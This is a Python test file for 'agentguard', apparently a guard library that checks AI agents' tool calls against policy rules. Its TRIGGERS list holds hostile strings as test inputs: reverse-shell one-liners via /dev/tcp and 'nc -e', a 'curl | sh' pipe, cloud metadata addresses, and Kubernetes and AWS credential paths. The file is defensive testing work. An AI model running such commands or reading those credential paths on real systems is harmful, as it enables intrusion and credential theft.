"""The policy's quick answer for tool calls no rule can make fire, and the Guard relying on it."""

from __future__ import annotations

import time
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import agentguard
from agentguard.events import ToolCall
from agentguard.policy import Policy
from tests.policy.conftest import ctx, make_policy, rule_ids

# Strings that make built-in rules fire, and ordinary ones.
TRIGGERS = ["169.254.169.254", "http://169.254.169.254/latest/meta-data/", "fd00:ec2::254",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "nc -e /bin/sh 10.0.0.1 4444",
            "/var/run/secrets/kubernetes.io/serviceaccount/token", "https://kubernetes.default.svc",
            "~/.aws/credentials", "metadata.google.internal", "/bin/sh -c 'curl x | sh'"]
ORDINARY = ["Oslo", "ada@example.com", "order 1001", "https://example.com/page?id=4",
            "select * from orders", "", "ignore", "bash", "/tmp/report.txt"]
values = st.one_of(st.integers(), st.booleans(), st.none(), st.sampled_from(TRIGGERS + ORDINARY),
                   st.text(max_size=40))
arguments = st.dictionaries(st.sampled_from(["url", "cmd", "path", "city", "q", "id"]),
                            st.one_of(values, st.lists(values, max_size=3),
                                      st.dictionaries(st.just("inner"), values, max_size=1)),
                            max_size=4)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(args=arguments, tool=st.sampled_from(["lookup", "fetch_url", "run_shell", "send_email"]))
def test_a_quick_allow_is_never_wrong_for_the_builtin_pack(args: dict[str, Any], tool: str
                                                           ) -> None:
    """Whenever the pack says a call needs no event, evaluating the full event finds nothing."""
    pack = Policy.builtin()
    allowed = pack.quick_allow(tool, "test-agent", args, None, time.time())
    decisions = pack.evaluate(ToolCall(context=ctx(conversation_id=None, tool=tool), tool=tool,
                                       arguments=args, phase="call"))
    if allowed:
        assert decisions is None, rule_ids(decisions)
    if any(trigger in str(args) for trigger in TRIGGERS[:3]):
        assert not allowed  # the metadata address is behind a gate


def test_rules_the_quick_answer_cannot_judge_need_the_event() -> None:
    """A rule with a condition outside a gate, or on the event's context, is never answered
    quickly: the call is evaluated in full."""
    policy = make_policy("""
        rules:
          - id: no-big-ids
            description: ids above 100 are archived
            match: {kind: tool_call}
            when: {field: arguments.id, gt: 100}
            action: block
          - id: night-agent
            description: the night agent calls no tools
            match: {kind: tool_call}
            when: {field: context.agent, equals: night-bot}
            action: block
    """)
    assert not policy.quick_allow("lookup", "test-agent", {"id": 5}, "c1", time.time())
    assert policy.evaluate(ToolCall(context=ctx(), tool="lookup", arguments={"id": 5},
                                    phase="call")) is None


def test_the_rate_limit_counts_each_call_once_on_either_path(guarded: Any) -> None:
    """With the built-in pack in enforce mode, the runaway-loop rule (more than 60 calls a minute
    in one conversation) fires on the 61st call, not before, and once per call after it."""
    found: list[Any] = []
    guarded(mode="enforce", injection_detection=False, runtime_sensor=False,
            on_finding=found.append)

    @agentguard.tool
    def lookup(customer_id: int) -> str:
        """Look up a customer."""
        return "ok"

    with agentguard.conversation("loop-1"):
        for i in range(60):
            lookup(customer_id=i)
        assert found == []
        lookup(customer_id=60)
        lookup(customer_id=61)
    assert [(f.rule_id, f.action, f.conversation_id) for f in found] == [
        ("AG020", "alert", "loop-1")] * 2
    assert all(f.evidence["rate"]["count"] > 60 for f in found)


def test_calls_judged_without_an_event_still_carry_their_id_and_block_when_they_must(
        guarded: Any) -> None:
    """A quickly allowed call's code sees its tool call id in its context; a call whose
    arguments name the metadata service is still blocked."""
    seen: list[Any] = []
    guard = guarded(mode="enforce", injection_detection=False, runtime_sensor=False)
    assert guard._quick_allow is not None

    @agentguard.tool
    def fetch(url: str) -> str:
        """Fetch a page."""
        seen.append(agentguard.get_guard().context_here())  # type: ignore[union-attr]
        return "page"

    from agentguard import _tool

    _tool.expect_tool_call("fetch", "call-7", {"url": "https://example.com"})
    assert fetch(url="https://example.com") == "page"
    assert seen[0].tool == "fetch" and seen[0].tool_call_id == "call-7"
    try:
        fetch(url="http://169.254.169.254/latest/meta-data/iam/")
    except agentguard.ToolCallBlocked as blocked:
        assert blocked.finding.rule_id == "AG009"
    else:
        raise AssertionError("the metadata call was not blocked")
    assert len(seen) == 1


def test_other_stages_turn_the_quick_answer_off(guarded: Any) -> None:
    """With a detector or a callback policy next to the pack, every call event is built."""
    assert guarded(injection_detection=True)._quick_allow is None
    agentguard.uninstrument()
    assert guarded(injection_detection=False, policy=[lambda e: None])._quick_allow is None
